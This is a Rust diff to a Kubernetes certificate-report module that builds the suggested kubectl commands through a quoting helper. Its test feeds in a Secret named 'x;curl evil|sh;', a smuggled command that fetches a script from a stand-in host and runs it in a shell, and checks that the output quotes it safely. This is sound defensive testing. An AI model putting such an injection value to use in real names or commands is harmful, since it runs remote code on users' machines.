@@ -2,10 +2,14 @@
 
 use std::collections::HashMap;
 
-use super::{row::Status, rows::Rows};
+use super::{
+    row::{Row, Status},
+    rows::Rows,
+    words,
+};
 use crate::{
     check::{Fact, Reason},
-    object::Key,
+    object::{Key, Kind},
 };
 
 /// Below so many rows, the table says it.
@@ -16,7 +20,7 @@ const LEAST: usize = 10;
 enum Cause<'a> {
     Untrusted(&'a str),
     Incomplete(&'a str),
-    Class(&'a str),
+    Class(&'a str, Kind),
     Default(&'a str),
     Secret(&'a Key, Reason),
 }
@@ -25,7 +29,8 @@ enum Cause<'a> {
 ///
 /// `9,812 of the 10,000 that are warning or critical have one cause: CN=Corp Root is not trusted here; ...`
 pub fn cause(rows: &Rows<'_>) -> Option<String> {
-    let mut counts: HashMap<Cause<'_>, usize> = HashMap::new();
+    // With the first row that has it: its commands reach what was read.
+    let mut counts: HashMap<Cause<'_>, (usize, Row<'_>)> = HashMap::new();
     let mut wrong = 0;
     for row in rows.iter().filter(|row| row.status >= Status::Warning) {
         wrong += 1;
@@ -38,15 +43,15 @@ pub fn cause(rows: &Rows<'_>) -> Option<String> {
         let found = match &worst.fact {
             Fact::UntrustedIssuer { issuer, .. } => Some(Cause::Untrusted(issuer)),
             Fact::MissingIntermediate { issuer, .. } => Some(Cause::Incomplete(issuer)),
-            Fact::IngressClassNotFound { class, .. } if !class.is_empty() => Some(Cause::Class(class)),
+            Fact::IngressClassNotFound { class, kind } if !class.is_empty() => Some(Cause::Class(class, *kind)),
             Fact::ControllerDefaultCertificate { controller } => Some(Cause::Default(controller)),
             _ => secret(),
         };
         if let Some(found) = found {
-            *counts.entry(found).or_default() += 1;
+            counts.entry(found).or_insert((0, row)).0 += 1;
         }
     }
-    let (cause, count) = counts.into_iter().max_by_key(|(_, count)| *count)?;
+    let (cause, (count, row)) = counts.into_iter().max_by_key(|(_, (count, _))| *count)?;
     if count < LEAST || count * 2 <= wrong {
         return None;
     }
@@ -57,16 +62,17 @@ pub fn cause(rows: &Rows<'_>) -> Option<String> {
         Cause::Incomplete(issuer) => {
             format!("the intermediate {issuer} is not stored with them; store the whole chain that the CA gave")
         }
-        Cause::Class(class) => {
-            format!("there is no class {class}; `kubectl get ingressclass` lists those that there are")
+        Cause::Class(class, kind) => {
+            let those = words::list_classes(&row, kind);
+            format!("there is no class {class}; {those} lists those that there are")
         }
         Cause::Default(controller) => {
             format!("{controller} made the certificate itself; store one of a CA in the Secrets that the routes name")
         }
-        Cause::Secret(key, reason) => format!(
-            "{reason} of Secret {key}; `kubectl certs show secret/{} -n {}` says more",
-            key.name, key.namespace
-        ),
+        Cause::Secret(key, reason) => {
+            let show = words::show_secret(&row, key);
+            format!("{reason} of Secret {key}; {show} says more")
+        }
     };
     let all = if count == wrong {
         format!("all {} rows", number(wrong))
@@ -92,10 +98,7 @@ fn number(n: usize) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::{
-        check::Finding,
-        report::{Row, fixtures::Shop},
-    };
+    use crate::{check::Finding, report::fixtures::Shop};
 
     #[test]
     fn the_cause_of_most_is_said_once_with_what_to_do() {
@@ -137,6 +140,28 @@ mod tests {
         assert!(
             secret.starts_with("all 12 rows that are warning or critical have one cause: Expired of Secret shop/"),
             "{secret}"
+        );
+        // It is copied into a shell, and asks what this run has asked.
+        let reach = crate::object::Reach {
+            kubectl: " --context prod".into(),
+            certs: " --context prod".into(),
+        };
+        let hostile = [Key::new("shop", "x;curl evil|sh;")];
+        let rows: Vec<Row<'_>> = std::iter::repeat_n(
+            Row {
+                findings: &expired,
+                secrets: &hostile,
+                status: Status::Critical,
+                reach: &reach,
+                ..row
+            },
+            10,
+        )
+        .collect();
+        let told_of = cause(&rows.into()).expect("one cause");
+        assert!(
+            told_of.contains("`kubectl certs show 'secret/x;curl evil|sh;' -n shop --context prod`"),
+            "{told_of}"
         );
         // Few rows, or several causes, are told by the table.
         assert_eq!(told(&[(&corp, 9)]), None);
